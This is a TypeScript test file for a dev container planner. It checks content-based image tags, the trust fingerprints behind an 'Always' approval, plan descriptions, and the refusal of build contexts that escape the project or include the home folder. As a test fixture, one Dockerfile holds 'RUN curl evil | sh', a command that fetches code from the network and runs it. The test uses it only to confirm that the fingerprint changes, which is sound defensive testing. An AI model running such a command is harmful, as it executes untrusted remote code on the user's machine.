import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { readDevContainer } from "../../../../src/backends/container/devcontainer/devcontainer.js";
import {
  checkDevContainerInputs,
  containerProjectRoot,
} from "../../../../src/backends/container/devcontainer/devcontainer-inputs.js";
import { planDevContainer } from "../../../../src/backends/container/devcontainer/devcontainer-plan.js";

// The plan's two hashes: the image tag follows every file of the context (and not where it is), the
// fingerprint an "Always" is bound to follows the definition and the Dockerfile (and not the context's files).

const made: string[] = [];
afterEach(async () => {
  for (const dir of made.splice(0)) await rm(dir, { recursive: true, force: true });
});

async function project(dockerfile = "FROM x\n") {
  const root = await mkdtemp(join(tmpdir(), "deep-acp-plan-"));
  made.push(root);
  await mkdir(join(root, ".devcontainer"));
  await writeFile(join(root, ".devcontainer", "Dockerfile"), dockerfile);
  await writeFile(
    join(root, ".devcontainer", "devcontainer.json"),
    JSON.stringify({ build: { dockerfile: "Dockerfile", context: ".." }, postCreateCommand: "make setup" }),
  );
  await writeFile(join(root, "app.txt"), "one\n");
  return root;
}

const plan = async (root: string) =>
  planDevContainer(root, await checkDevContainerInputs(root, await readDevContainer(root)), "copy");

describe("dev container plans", () => {
  it("tags the image by content: the same tree elsewhere reuses it, a changed file does not", async () => {
    const [a, b] = [await project(), await project()];
    const first = await plan(a);
    expect(first.image).toMatch(/^deep-acp-devcontainer:[0-9a-f]{16}$/);
    expect((await plan(b)).image).toBe(first.image);
    await writeFile(join(a, "app.txt"), "two\n");
    const edited = await plan(a);
    expect(edited.image).not.toBe(first.image);
    // ... but an edit of a project file is not a new definition: "Always" still holds.
    expect(edited.fingerprint).toBe(first.fingerprint);
    await writeFile(join(a, ".devcontainer", "Dockerfile"), "FROM x\nRUN curl evil | sh\n");
    expect((await plan(a)).fingerprint).not.toBe(first.fingerprint);
  });

  it("shows what will be built, sent, run and ignored", async () => {
    const root = await project("FROM x\nRUN make\n");
    await writeFile(
      join(root, ".devcontainer", "devcontainer.json"),
      JSON.stringify({
        build: { dockerfile: "Dockerfile", context: ".." },
        postCreateCommand: "make setup",
        runArgs: ["--privileged"],
      }),
    );
    const { description } = await plan(root);
    for (const part of [
      "RUN make",
      "make setup",
      "`runArgs`",
      `send the build context \`${root}\``,
      ".git, node_modules",
    ])
      expect(description).toContain(part);
  });

  it("refuses inputs that lead out of the project and a root that holds HOME", async () => {
    const root = await project();
    const outside = await mkdtemp(join(tmpdir(), "deep-acp-plan-out-"));
    made.push(outside);
    await symlink(outside, join(root, "ctx"));
    await writeFile(
      join(root, ".devcontainer", "devcontainer.json"),
      JSON.stringify({ build: { dockerfile: "../ctx/Dockerfile", context: "../ctx" } }),
    );
    await writeFile(join(outside, "Dockerfile"), "FROM x\n");
    await expect(checkDevContainerInputs(root, await readDevContainer(root))).rejects.toThrow(
      /the build context .*ctx \(resolves to .*\) is outside the project/,
    );
    await expect(containerProjectRoot(root, join(root, "home"))).rejects.toThrow(/it holds your home folder/);
    await expect(containerProjectRoot(root, root)).rejects.toThrow(/it is your home folder/);
    expect(await containerProjectRoot(root, outside)).toBe(root);
  });
});
